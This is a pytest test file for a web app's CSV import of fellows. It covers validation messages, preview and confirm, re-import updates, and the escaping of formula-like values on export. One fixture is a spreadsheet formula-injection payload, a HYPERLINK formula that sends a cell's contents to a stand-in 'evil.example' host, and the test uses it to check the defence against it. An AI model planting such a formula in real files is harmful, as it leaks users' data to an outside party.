"""CSV import of fellows: every kind of bad row or file gets a clear message, nothing is imported from a
bad file, a re-import updates instead of duplicating, and formula-like values come back as harmless text."""

from __future__ import annotations

import csv
import io
import re

import pytest
from sqlalchemy import func, select

from core.models import Tag
from core.uploads import CSV, decode_text, pack
from extensions import db
from fellows.manage.csv_check import MAX_ROWS, ImportFileError, parse_csv
from fellows.models import AccountToken, Organisation, User
from tests.conftest import PASSWORD, link_in

HEADER = "name,email,organisation,sector,cohort,interests\n"
GOOD = (
    HEADER
    + "Amelia Hart,amelia@example.org,HM Treasury,Government,2016,AI policy; Digital government\n"
    + 'Ben Okafor,ben@example.org,"Policy Lab, Cabinet Office",civil_society,2019,Public service reform\n'
)


def upload(client, text: str | bytes, filename: str = "fellows.csv"):
    data = text.encode("utf-8") if isinstance(text, str) else text
    return client.post(
        "/organiser/import", data={"file": (io.BytesIO(data), filename)}, content_type="multipart/form-data"
    )


def confirm(client, preview_response, overwrite: bool = False):
    content = re.search(r'name="content" value="([^"]+)"', preview_response.get_data(as_text=True)).group(1)
    data = {"content": content} | ({"overwrite": "y"} if overwrite else {})
    return client.post("/organiser/import/confirm", data=data)


def database_counts(app) -> tuple[int, int, int, int]:
    with app.app_context():
        return tuple(
            db.session.scalar(select(func.count(model.id))) for model in (User, Organisation, Tag, AccountToken)
        )


@pytest.fixture
def organiser_client(login, make_organiser):
    return login(make_organiser())


# Rows: each bad kind gets its own message --------------------------------------------------

BAD_ROWS = [
    (",nobody@example.org,,,,", "Name is missing."),
    ("No Email,,,,,", "Email is missing."),
    ("Bad Email,not-an-email,,,,", "“not-an-email” is not a valid email address."),
    ("Bad Domain,someone@localhost,,,,", "is not a valid email address"),
    ("Odd Sector,odd@example.org,,Space agency,,", "Unknown sector “Space agency”: use one of Government"),
    ("Word Cohort,word@example.org,,,twenty,", "Cohort “twenty” is not a year"),
    ("Short Cohort,short@example.org,,,16,", "Cohort “16” is not a year"),
    ("Future Cohort,future@example.org,,,2999,", "Cohort 2999 is not a year between 1990 and"),
    ("N" * 201 + ",long@example.org,,,,", "Name is too long: 201 characters, at most 200."),
    ("Long Org,org@example.org," + "O" * 201 + ",,,", "Organisation is too long: 201 characters, at most 200."),
    ("Long Email," + "e" * 310 + "@example.org,,,,", "Email is too long: 322 characters, at most 320."),
    ("Long Topic,topic@example.org,,,," + "T" * 81, "is too long: at most 80 characters."),
    ("Bad Topic,bad-topic@example.org,,,,!!!", "Interest “!!!” needs some letters or digits."),
    ("Extra Cell,extra@example.org,,,,,surprise", "This row has 7 cells but the header names 6 columns."),
]


@pytest.mark.parametrize(("row", "message"), BAD_ROWS)
def test_each_bad_row_kind_gets_its_message(app, organiser_client, row, message):
    before = database_counts(app)
    response = upload(organiser_client, HEADER + "Good Person,good@example.org,,,,\n" + row + "\n")
    text = response.get_data(as_text=True)
    assert response.status_code == 400
    assert "Nothing has been imported" in text
    assert message.replace("“", "&#8220;") in text or message in text
    assert "Line 3:" in text and "Line 2:" not in text  # the good row has no error
    assert 'name="content"' not in text  # no confirm button for a file with errors
    assert database_counts(app) == before


def test_duplicate_email_within_the_file(app, organiser_client):
    response = upload(
        organiser_client, HEADER + "One,same@example.org,,,,\nTwo,other@example.org,,,,\nThree,SAME@example.org,,,,\n"
    )
    assert response.status_code == 400
    assert "Duplicate email: same@example.org is already on line 2." in response.get_data(as_text=True)
    assert database_counts(app) == (1, 0, 0, 0)


def test_email_of_an_organiser_cannot_be_imported(app, organiser_client, make_organiser):
    make_organiser(email="boss@example.org", name="The Boss")
    response = upload(organiser_client, HEADER + "Not Boss,boss@example.org,,,,\n")
    assert response.status_code == 400
    assert "belongs to an organiser account" in response.get_data(as_text=True)


# Files: clear file-level messages ----------------------------------------------------------

BAD_FILES = [
    (b"", "The file is empty."),
    (b"\n\n", "The file is empty."),
    (HEADER.encode(), "The file has a header row but no fellows below it."),
    (b"name,organisation\nA,B\n", "The header row has no email column."),
    (b"email\na@example.org\n", "The header row has no name column."),
    (b"name,email,phone\nA,a@example.org,0123\n", "The header row has unknown column: phone."),
    (b"name,email,email\nA,a@example.org,b@example.org\n", "The header row has the column email more than once."),
    (b"name;email;sector\nA;a@example.org;Other\n", "separated by semicolons"),
    ("name,email\nJosé,jose@example.org\n".encode("latin-1"), "The file is not UTF-8 text."),
    (b"\x89PNG\r\n\x1a\n\x00\x00\x00", "The file is not UTF-8 text."),
    (b"name,email\nA,a@example.org\x00\n", "binary data"),
]


@pytest.mark.parametrize(("data", "message"), BAD_FILES)
def test_bad_files_get_a_clear_message_and_import_nothing(app, organiser_client, data, message):
    before = database_counts(app)
    response = upload(organiser_client, data)
    assert response.status_code == 400
    assert message in response.get_data(as_text=True)
    assert database_counts(app) == before


def test_too_many_rows(app, organiser_client):
    rows = "".join(f"Person {n},p{n}@example.org,,,,\n" for n in range(MAX_ROWS + 1))
    response = upload(organiser_client, HEADER + rows)
    assert response.status_code == 400
    assert f"The file has more than {MAX_ROWS} fellows" in response.get_data(as_text=True)


def test_non_csv_extension_is_refused(organiser_client):
    response = upload(organiser_client, GOOD, filename="fellows.xlsx")
    assert response.status_code == 400 and "Upload a .csv file" in response.get_data(as_text=True)


def test_header_any_case_any_order_bom_and_optional_columns():
    text = decode_text("\ufeffEMAIL , Name,Sector\r\nx@example.org,Xavier,CIVIL SOCIETY\r\n\r\n".encode(), CSV)
    columns, rows = parse_csv(text)
    assert columns == ["email", "name", "sector"]
    [row] = rows
    assert (row.name, row.email, row.sector, row.errors) == ("Xavier", "x@example.org", "civil_society", [])


@pytest.mark.parametrize("spelling", ["Civil society", "civil_society", "CIVIL SOCIETY", "Civil_Society"])
def test_sector_accepts_labels_and_keys(spelling):
    _, [row] = parse_csv(f"name,email,sector\nA,a@example.org,{spelling}\n")
    assert row.sector == "civil_society" and row.errors == []


def test_quoted_cells_and_interest_list():
    _, [row] = parse_csv('name,email,interests\n"Hart, Amelia",a@example.org," AI policy ;; ai  POLICY;Data"\n')
    assert row.name == "Hart, Amelia" and row.interests == ["AI policy", "Data"] and row.errors == []


@pytest.mark.parametrize("text", ['name,email\n"unclosed,a@example.org\nmore', 'name,email\n"A" B,a@example.org\n'])
def test_malformed_quotes_are_a_file_error(text):
    with pytest.raises(ImportFileError, match=r"not valid CSV \(line \d\)"):
        parse_csv(text)


# Previewing, confirming, inviting ----------------------------------------------------------


def test_good_file_preview_then_confirm_then_invite(app, organiser_client, make_fellow, outbox):
    make_fellow(interests=("AI policy",))
    before = database_counts(app)
    preview = upload(organiser_client, GOOD)
    text = preview.get_data(as_text=True)
    assert preview.status_code == 200
    assert "2 rows checked: 2 new fellows, 0 updates" in text
    assert "Amelia Hart" in text and "Policy Lab, Cabinet Office" in text
    # "AI policy" is known; "Digital government" and "Public service reform" are new topics.
    assert text.count("new topic") == 2
    assert database_counts(app) == before  # nothing saved by the preview

    done = confirm(organiser_client, preview)
    assert done.status_code == 302 and done.headers["Location"] == "/organiser/import/done"
    with app.app_context():
        amelia = db.session.scalar(select(User).where(User.email == "amelia@example.org"))
        assert amelia.password_hash is None and amelia.role == "fellow" and amelia.active
        assert (amelia.organisation.name, amelia.sector, amelia.cohort) == ("HM Treasury", "government", 2016)
        assert [tag.name for tag in amelia.interests] == ["AI policy", "Digital government"]
        ben = db.session.scalar(select(User).where(User.email == "ben@example.org"))
        assert ben.sector == "civil_society" and ben.organisation.name == "Policy Lab, Cabinet Office"
        assert db.session.scalar(select(func.count(Tag.id))) == 3
    assert outbox() == []  # new fellows are not invited until the organiser asks

    page = organiser_client.get("/organiser/import/done").get_data(as_text=True)
    assert "2 new fellows added, 0 existing fellows updated" in page
    assert "Send invitations to the 2 new fellows" in page
    sent = organiser_client.post("/organiser/import/invite", follow_redirects=True)
    assert "Invitations sent to 2 new fellows" in sent.get_data(as_text=True)
    invitations = outbox(kind="invitation")
    assert sorted(message.to_address for message in invitations) == ["amelia@example.org", "ben@example.org"]
    # Pressing again sends nothing twice.
    organiser_client.post("/organiser/import/invite")
    assert len(outbox(kind="invitation")) == 2
    assert "Send invitations" not in organiser_client.get("/organiser/import/done").get_data(as_text=True)

    # The invitation works like any other.
    visitor = app.test_client()
    link = link_in(invitations[0], "/invitation/")
    assert visitor.post(link, data={"password": PASSWORD, "confirm": PASSWORD, "consent": "y"}).status_code == 302


def test_reimport_updates_rather_than_duplicates(app, organiser_client, make_fellow):
    existing = make_fellow(
        email="amelia@example.org", name="Amelia H", cohort=2010, interests=("Health policy",), job_title="Adviser"
    )
    # Amelia's name and cohort are her own (she has signed up): replaced only because the organiser ticks.
    assert confirm(organiser_client, upload(organiser_client, GOOD), overwrite=True).status_code == 302
    counts = database_counts(app)
    again = upload(
        organiser_client,
        GOOD.replace("amelia@example.org", "AMELIA@Example.org").replace("Ben Okafor,", "Benjamin Okafor,"),
    )
    assert "0 new fellows, 2 updates" in again.get_data(as_text=True)
    assert confirm(organiser_client, again).status_code == 302
    assert database_counts(app) == counts
    with app.app_context():
        assert db.session.scalar(select(func.count(User.id)).where(User.role == "fellow")) == 2
        amelia = db.session.get(User, existing.id)
        assert (amelia.name, amelia.cohort, amelia.job_title) == ("Amelia Hart", 2016, "Adviser")
        assert amelia.password_hash is not None  # still signs in as before
        # Interests from the file are added; the fellow's own are kept.
        assert [tag.name for tag in amelia.interests] == ["AI policy", "Digital government", "Health policy"]
        assert db.session.scalar(select(User.name).where(User.email == "ben@example.org")) == "Benjamin Okafor"
    page = organiser_client.get("/organiser/import/done").get_data(as_text=True)
    assert "0 new fellows added, 2 existing fellows updated" in page and "Send invitations" not in page


def test_empty_cells_leave_existing_values(app, organiser_client, make_fellow, make_organisation):
    lab = make_organisation("Policy Lab")
    fellow = make_fellow(email="kept@example.org", cohort=2012, sector="academia", organisation_id=lab.id, joined=False)
    preview = upload(organiser_client, HEADER + "Kept Person,kept@example.org,,,,\n")
    assert confirm(organiser_client, preview).status_code == 302
    with app.app_context():
        user = db.session.get(User, fellow.id)
        assert (user.name, user.cohort, user.sector, user.organisation_id) == ("Kept Person", 2012, "academia", lab.id)


def test_preview_shows_old_and_new_and_keeps_what_the_fellow_set(app, organiser_client, make_fellow, make_organisation):
    treasury = make_organisation("HM Treasury")
    amelia = make_fellow(
        email="amelia@example.org", name="Amelia Hart", cohort=2016, organisation_id=treasury.id, interests=("Data",)
    )
    newcomer = make_fellow(email="ben@example.org", name="B Okafor", cohort=None, joined=False)
    text = HEADER + "Amelia Updated,amelia@example.org,HM Treasury,,2017,Data; AI policy\n"
    text += "Ben Okafor,ben@example.org,,,2019,\n"
    preview = upload(organiser_client, text)
    page = preview.get_data(as_text=True)
    assert preview.status_code == 200
    # Every changed field, old → new; unchanged ones (the organisation) are not listed.
    assert "Name: <del>Amelia Hart</del> → <ins>Amelia Updated</ins>" in page
    assert "Cohort: <del>2016</del> → <ins>2017</ins>" in page
    assert "Interests: <del>Data</del> → <ins>Data; AI policy</ins>" in page
    assert "Organisation:" not in page
    assert "Name: <del>B Okafor</del> → <ins>Ben Okafor</ins>" in page
    assert 'Cohort: <span class="muted">(blank)</span> → <ins>2019</ins>' in page
    # Amelia has signed up, so her name and cohort are hers; Ben has not yet.
    assert page.count("set by the fellow: kept unless you tick to overwrite") == 2
    assert "2 changes would replace values that fellows set themselves" in page
    assert 'name="overwrite"' in page

    assert confirm(organiser_client, preview).status_code == 302
    done = organiser_client.get("/organiser/import/done").get_data(as_text=True)
    assert "2 values the fellows set themselves were left as they were." in done
    with app.app_context():
        kept = db.session.get(User, amelia.id)
        assert (kept.name, kept.cohort) == ("Amelia Hart", 2016)
        assert [tag.name for tag in kept.interests] == ["AI policy", "Data"]  # interests are only ever added
        ben = db.session.get(User, newcomer.id)
        assert (ben.name, ben.cohort) == ("Ben Okafor", 2019)

    assert confirm(organiser_client, upload(organiser_client, text), overwrite=True).status_code == 302
    with app.app_context():
        replaced = db.session.get(User, amelia.id)
        assert (replaced.name, replaced.cohort) == ("Amelia Updated", 2017)


def test_preview_of_an_unchanged_fellow_says_so(organiser_client, make_fellow):
    make_fellow(email="same@example.org", name="Same Person", cohort=2016, sector="government")
    page = upload(organiser_client, HEADER + "Same Person,same@example.org,,Government,2016,\n").get_data(as_text=True)
    assert "No changes" in page and "set by the fellow" not in page and 'name="overwrite"' not in page


def test_confirm_checks_again_and_imports_nothing_from_a_bad_file(app, organiser_client, make_organiser):
    before = database_counts(app)
    forged = pack(HEADER + "Fine,fine@example.org,,,,\nBroken,broken,,,,\n")
    response = organiser_client.post("/organiser/import/confirm", data={"content": forged})
    assert response.status_code == 400 and "is not a valid email address" in response.get_data(as_text=True)
    assert database_counts(app) == before

    damaged = organiser_client.post("/organiser/import/confirm", data={"content": "not-really-packed"})
    assert damaged.status_code == 400 and "did not come back intact" in damaged.get_data(as_text=True)
    missing = organiser_client.post("/organiser/import/confirm", data={})
    assert missing.status_code == 400
    assert database_counts(app) == before

    # The database changed between preview and confirmation: the file no longer passes.
    preview = upload(organiser_client, GOOD)
    make_organiser(email="ben@example.org")
    stale = confirm(organiser_client, preview)
    assert stale.status_code == 400 and "no longer passes the checks" in stale.get_data(as_text=True)
    with app.app_context():
        assert db.session.scalar(select(func.count(User.id)).where(User.email == "amelia@example.org")) == 0


def test_done_page_without_an_import_goes_to_upload(organiser_client):
    response = organiser_client.get("/organiser/import/done")
    assert response.status_code == 302 and response.headers["Location"] == "/organiser/import"


# Formulas stay text ------------------------------------------------------------------------

FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "organisation": "+44 20 7946 0000 Ltd",
    "interest": "@SUM(1+1)",
    "interest2": "-2+3",
}


def test_formula_like_values_are_stored_as_given_and_exported_as_text(app, organiser_client):
    row = (
        f'"{FORMULAS["name"].replace(chr(34), chr(34) * 2)}",formula@example.org,{FORMULAS["organisation"]},'
        f"Other,2020,{FORMULAS['interest']};{FORMULAS['interest2']}\n"
    )
    preview = upload(organiser_client, HEADER + row)
    assert preview.status_code == 200, preview.get_data(as_text=True)
    assert confirm(organiser_client, preview).status_code == 302
    with app.app_context():
        user = db.session.scalar(select(User).where(User.email == "formula@example.org"))
        assert user.name == FORMULAS["name"]
        assert user.organisation.name == FORMULAS["organisation"]
        assert sorted(tag.name for tag in user.interests) == sorted([FORMULAS["interest"], FORMULAS["interest2"]])

    export = organiser_client.get("/organiser/fellows/export.csv").get_data(as_text=True)
    [exported] = list(csv.DictReader(io.StringIO(export.lstrip("\ufeff"))))
    assert exported["name"] == "'" + FORMULAS["name"]
    assert exported["organisation"] == "'" + FORMULAS["organisation"]
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in exported.values())
    assert exported["interests"] == "'" + "; ".join(sorted([FORMULAS["interest2"], FORMULAS["interest"]]))
